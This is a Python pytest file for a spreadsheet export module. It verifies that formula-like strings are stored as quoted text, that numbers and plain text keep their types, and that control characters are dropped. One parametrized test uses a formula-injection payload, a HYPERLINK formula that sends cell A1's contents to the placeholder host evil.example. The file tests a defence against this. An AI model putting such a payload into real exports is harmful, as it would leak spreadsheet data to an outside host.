"""core.exports writes every string as text: no formula (issue 11 finding 4), no 500 on a control character."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from anze.core.exports import FORMULA_TRIGGERS, xlsx_response


def _cells(rows: list[list[object]]) -> list[object]:
    response = xlsx_response("测试", ["列"] * len(rows[0]), rows)
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return list(sheet[2])


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_a_string_starting_like_a_formula_is_written_as_quoted_text(trigger: str) -> None:
    text = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"点我")'
    (cell,) = _cells([[text]])
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value.lstrip("\r\n") == text.lstrip("\r\n")  # XML keeps a CR as a line break


def test_plain_text_numbers_and_dates_keep_their_types() -> None:
    plain, number, empty = _cells([["泉州鸿盛建筑", 3500, None]])
    assert plain.value == "泉州鸿盛建筑" and plain.data_type == "s" and not plain.quotePrefix
    assert number.value == 3500 and number.data_type == "n"
    assert empty.value is None


def test_a_control_character_in_a_name_is_dropped_rather_than_failing_the_export() -> None:
    (cell,) = _cells([["鸿盛\x00建筑\x07"]])
    assert cell.value == "鸿盛建筑"
